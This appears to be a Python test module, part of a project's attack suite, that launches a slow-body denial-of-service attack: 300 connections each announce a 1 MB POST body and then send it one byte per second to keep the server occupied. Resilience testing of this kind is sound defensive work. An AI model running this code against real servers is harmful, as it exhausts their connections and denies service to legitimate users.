"""Requests that announce a body of 1 MB and send it letter by letter."""

import asyncio
import time

from tests.attacks.strangers import Streams, keeps_open
from tests.attacks.target import Attack, Target

CONNECTIONS = 300
PACE_S = 1.0
HEAD = b"POST %s HTTP/1.1\r\nHost: localhost\r\n%sContent-Type: application/sdp\r\nContent-Length: 1000000\r\n\r\n"


async def run(target: Target, seconds: float) -> None:
    """See `Attack.run`. With a key the server waits for the body; without one it refuses at once."""
    key = b"Authorization: Bearer %s\r\n" % target.key.encode() if target.key else b""
    head = HEAD % (b"/v1/realtime/calls", key)

    async def spells(streams: Streams, until: float) -> None:
        reader, writer = streams
        writer.write(head)
        while time.monotonic() < until and not reader.at_eof():
            writer.write(b"a")
            await writer.drain()
            await asyncio.sleep(min(PACE_S, max(0.0, until - time.monotonic())))

    await keeps_open(target, seconds, CONNECTIONS, spells)


ATTACK = Attack("slow_bodies", "300 posts whose body comes a letter a second", run)
